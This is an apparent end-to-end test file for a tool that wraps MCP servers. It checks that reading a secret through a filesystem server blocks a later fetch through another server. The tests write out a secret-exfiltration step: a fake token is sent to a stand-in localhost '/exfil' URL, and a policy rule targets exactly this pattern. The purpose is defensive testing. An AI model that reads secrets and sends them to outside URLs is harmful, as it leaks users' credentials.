"""One agent session across the servers of a client, end to end (docs/wrap.md, "Shared
sessions"): a Claude Desktop config with a filesystem server and a fetch server, protected with
`assay mcp protect`, both started from one client process exactly as the config says (the MCP
Python SDK's `stdio_client`, and the TypeScript SDK v1 `Client`): a secret read through one
server forbids the send through the other. With `ASSAY_SHARED_SESSION=none` each wrap keeps its
own history (the send goes through). Real processes and a real SQLite file throughout."""

from __future__ import annotations

import json
import sys
import textwrap
from contextlib import AsyncExitStack
from pathlib import Path

import trio
from mcp import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from tests.discover._discover_helpers import make_env, run_assay
from tests.e2e._e2e_support import E2E, NODE_MODULES, RUN_TIMEOUT

FS_SERVER = NODE_MODULES / "@modelcontextprotocol" / "server-filesystem" / "dist" / "index.js"
TS_MULTI = E2E / "ts_v1_multi_client.mjs"
SECRET = "sk-live-123"
EXFIL = f"http://127.0.0.1:9/exfil?k={SECRET}"

FETCH_SERVER = textwrap.dedent(
    """
    import os
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("tiny-fetch", version="1.0.0")

    @server.tool()
    def fetch(url: str) -> str:
        \"\"\"Fetch a URL (here: only write it down).\"\"\"
        with open(os.environ["FETCH_LOG"], "a") as fh:
            fh.write(url + "\\n")
        return "fetched"

    if __name__ == "__main__":
        server.run()
    """
)

POLICY = """\
version: "2.0"
tools:
  allow: ["*"]
sequences:
  - type: never_after
    id: no-send-after-secret
    trigger: { tool: "read_*", args_match: { path: "secrets/" } }
    forbidden: fetch
    for: 1h
"""


def setup(tmp_path: Path) -> tuple[dict[str, str], dict[str, dict], Path, Path]:
    """A home with a protected Claude Desktop config: (env, entries, fetch log, secret path)."""
    home = tmp_path / "home"
    ws = tmp_path / "ws"
    (ws / "secrets").mkdir(parents=True)
    secret = ws / "secrets" / "token.env"
    secret.write_text(f"TOKEN={SECRET}\n")
    fetch_log = tmp_path / "fetched.txt"
    server = tmp_path / "fetch_server.py"
    server.write_text(FETCH_SERVER)
    config = home / ".config" / "Claude" / "claude_desktop_config.json"
    config.parent.mkdir(parents=True)
    config.write_text(
        json.dumps(
            {
                "mcpServers": {
                    "filesystem": {"command": "node", "args": [str(FS_SERVER), str(ws)]},
                    "fetch": {"command": sys.executable, "args": [str(server)], "env": {"FETCH_LOG": str(fetch_log)}},
                }
            },
            indent=2,
        )
    )
    policy = tmp_path / "assay.yaml"
    policy.write_text(POLICY)
    env = make_env(home)
    res = run_assay(
        "mcp", "protect", "claude", "--policy", str(policy), "--log-dir", str(tmp_path / "logs"), env=env, cwd=tmp_path
    )
    assert res.returncode == 0, res.stderr
    entries = json.loads(config.read_text())["mcpServers"]
    for entry in entries.values():
        assert "wrap" in entry["args"], entry
    return env, entries, fetch_log, secret


async def python_host(entries: dict[str, dict], env: dict[str, str], secret: Path, cwd: Path) -> tuple[str, object]:
    """Both servers in this one process (two `stdio_client` sessions): read the secret, then
    send. Returns (the read's text, the send's result)."""
    async with AsyncExitStack() as stack:
        sessions = {}
        for name, entry in entries.items():
            params = StdioServerParameters(
                command=entry["command"], args=entry["args"], env={**env, **entry.get("env", {})}, cwd=str(cwd)
            )
            read, write = await stack.enter_async_context(stdio_client(params))
            session = await stack.enter_async_context(ClientSession(read, write))
            await session.initialize()
            sessions[name] = session
        got = await sessions["filesystem"].call_tool("read_text_file", {"path": str(secret)})
        assert got.is_error is False, got
        sent = await sessions["fetch"].call_tool("fetch", {"url": EXFIL})
        return got.content[0].text, sent


async def test_python_sdk_host_a_secret_read_forbids_the_send_on_the_other_server(tmp_path):
    env, entries, fetch_log, secret = setup(tmp_path)
    with trio.fail_after(RUN_TIMEOUT):
        text, sent = await python_host(entries, env, secret, tmp_path)
    assert SECRET in text
    assert sent.is_error is True
    payload = json.loads(sent.content[1].text)  # the deny payload (docs/wrap.md, "Deny replies")
    assert payload["error_code"] == "E_SEQUENCE_VIOLATION" and payload["rule"] == "no-send-after-secret"
    assert not fetch_log.exists()  # the send never reached the server
    # both servers' decision logs name the one session, and each its server
    logs = {
        p.name.split(".")[0].removeprefix("claude_desktop-"): [
            e["data"] for e in map(json.loads, p.read_text().splitlines()) if e["type"] == "assay.tool.decision"
        ]
        for p in (tmp_path / "logs").glob("*.decisions.ndjson")
    }
    assert sorted(logs) == ["fetch", "filesystem"], sorted(logs)
    assert logs["fetch"][-1]["reason_code"] == "P_SEQUENCE_VIOLATION"
    assert logs["fetch"][-1]["server"] == "fetch" and logs["filesystem"][-1]["server"] == "filesystem"
    session = logs["filesystem"][-1]["session"]
    assert session.startswith("client:") and logs["fetch"][-1]["session"] == session
    # the store knows the session, both servers and the armed rule
    res = run_assay("mcp", "session", "list", "--json", env=env, cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    rows = [json.loads(line) for line in res.stdout.splitlines()]
    assert len(rows) == 1, rows
    assert "no-send-after-secret" in json.dumps(rows[0])


async def test_python_sdk_host_without_a_shared_session_each_wrap_decides_alone(tmp_path):
    env, entries, fetch_log, secret = setup(tmp_path)
    with trio.fail_after(RUN_TIMEOUT):
        _text, sent = await python_host(entries, {**env, "ASSAY_SHARED_SESSION": "none"}, secret, tmp_path)
    assert sent.is_error is False, sent
    assert fetch_log.read_text() == EXFIL + "\n"


async def ts_host(node: str, entries: dict[str, dict], env: dict[str, str], secret: Path, cwd: Path) -> list[dict]:
    spec = {
        "servers": {
            name: {"command": e["command"], "args": e["args"], "env": e.get("env", {})} for name, e in entries.items()
        },
        "timeoutMs": int(RUN_TIMEOUT * 1000),
        "steps": [
            {"server": "filesystem", "name": "read_text_file", "arguments": {"path": str(secret)}},
            {"server": "fetch", "name": "fetch", "arguments": {"url": EXFIL}},
        ],
    }
    with trio.fail_after(RUN_TIMEOUT + 30):
        proc = await trio.run_process(
            [node, str(TS_MULTI)],
            stdin=json.dumps(spec).encode(),
            capture_stdout=True,
            capture_stderr=True,
            check=False,
            cwd=str(cwd),
            env=env,
        )
    out = proc.stdout.decode()
    assert proc.returncode == 0, f"stdout:\n{out}\nstderr:\n{proc.stderr.decode(errors='replace')}"
    lines = [json.loads(line) for line in out.splitlines()]
    assert [x["kind"] for x in lines] == ["connected", "connected", "call", "call", "closed"], out
    assert lines[-1]["errors"] == []
    return lines[2:4]


async def test_ts_v1_host_a_secret_read_forbids_the_send_on_the_other_server(node, tmp_path):
    env, entries, fetch_log, secret = setup(tmp_path)
    read, send = await ts_host(node, entries, env, secret, tmp_path)
    assert read["is_error"] is False and SECRET in read["texts"][0]
    assert send["is_error"] is True, send
    assert "no-send-after-secret" in json.dumps(send)
    assert not fetch_log.exists()


async def test_two_client_processes_never_share_a_session(node, tmp_path):
    """The read in one host process, the send in another: two agent sessions."""
    env, entries, fetch_log, secret = setup(tmp_path)
    fs_only = {"filesystem": entries["filesystem"], "fetch": entries["fetch"]}
    read, _send = await ts_host(node, fs_only, env, secret, tmp_path)  # this host's own send is denied
    assert read["is_error"] is False
    # a second host process: its send comes first in its own session
    with trio.fail_after(RUN_TIMEOUT):
        async with AsyncExitStack() as stack:
            entry = entries["fetch"]
            params = StdioServerParameters(
                command=entry["command"], args=entry["args"], env={**env, **entry.get("env", {})}, cwd=str(tmp_path)
            )
            proc_read, proc_write = await stack.enter_async_context(stdio_client(params))
            session = await stack.enter_async_context(ClientSession(proc_read, proc_write))
            await session.initialize()
            sent = await session.call_tool("fetch", {"url": EXFIL})
    assert sent.is_error is False, sent
    assert fetch_log.read_text() == EXFIL + "\n"
